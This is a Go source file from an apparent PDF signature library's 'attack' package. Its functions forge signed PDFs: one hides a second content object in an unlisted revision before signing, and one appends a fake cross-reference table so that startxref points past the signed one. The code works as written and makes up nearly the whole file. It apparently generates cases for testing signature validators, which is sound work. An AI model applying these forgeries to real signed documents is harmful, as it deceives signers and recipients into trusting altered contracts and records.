package attack

import (
	"bytes"
	"context"
	"fmt"

	"github.com/antinvn/antin/codes"
	"github.com/antinvn/antin/pades"
	"github.com/antinvn/antin/pdf"
)

// Some attacks begin before the signature: whoever hands over the file has hidden something in it, which is signed along unseen.

// Prepare hides content in a file that is to be signed: a second object under the number of the first page's content, in a revision that
// lists nothing. Signed afterwards, the file serves the variant "hidden-content-prepared". Errors: [ErrNotApplicable] where the first page
// has no content of its own; pades.ErrSigned where the file is signed already; those of opening it, which must need no password.
func Prepare(ctx context.Context, unsigned []byte) ([]byte, error) {
	d, err := pdf.Open(ctx, bytes.NewReader(unsigned), int64(len(unsigned)), nil)
	if err != nil {
		return nil, err
	}
	all, err := pades.Signatures(ctx, d)
	if err != nil {
		return nil, err
	}
	if len(all) > 0 {
		return nil, codes.New(pades.ErrSigned, "preparing", "the file", "what is hidden now is not signed")
	}
	f := &forgery{ctx: ctx, in: unsigned, doc: d}
	r, _, err := f.content()
	if err != nil {
		return nil, err
	}
	out := appendForged(append(bytes.Clone(unsigned), '\n'), r)
	if all := d.Revisions(); d.Rebuilt() || len(all) == 0 || all[len(all)-1].Kind == "stream" { // a table does not follow a stream (ISO 32000-2, 7.5.8)
		return nil, ErrNotApplicable
	}
	return f.unlisting(out), nil
}

// prepared are the variants that need a file that was prepared, or tables that begin anew where the signature ends.
func prepared() []Variant {
	return []Variant{
		{"hidden-content-prepared", hideAndReplace, "a cross-reference leads to content that was hidden before it was signed", true, func(f *forgery) ([]byte, error) {
			r, _, err := f.content()
			if err != nil {
				return nil, err
			}
			at := bytes.Index(f.in, appendForged(nil, r))
			if at < 0 || at >= int(f.signature.ByteRange[1]) {
				return nil, ErrNotApplicable
			}
			return f.table(entry{r.Number, int64(at), r.Generation, 'n'})
		}},
		{"fake-signed-xref", differential, "a forged cross-reference stands in the place of the one that was signed", true, fakeSigned},
	}
}

// fakeSigned copies the last signed cross-reference behind the file, with one entry for new content, and lets startxref lead to the
// copy: the one that was signed is left out.
func fakeSigned(f *forgery) ([]byte, error) {
	r, _, err := f.content()
	if err != nil {
		return nil, err
	}
	const head = "xref\n"
	signed := f.in[f.lastXRef():]
	end := bytes.Index(signed, []byte("startxref"))
	if end < 0 || !bytes.HasPrefix(signed, []byte(head)) {
		return nil, ErrNotApplicable
	}
	out := append(bytes.Clone(f.in), '\n')
	at := len(out)
	out = appendForged(out, r)
	fake := len(out)
	out = fmt.Appendf(out, "%s%d 1\n%010d %05d n \n", head, r.Number, at, r.Generation)
	out = append(out, signed[len(head):end]...)
	return fmt.Appendf(out, "startxref\n%d\n%%%%EOF\n", fake), nil
}
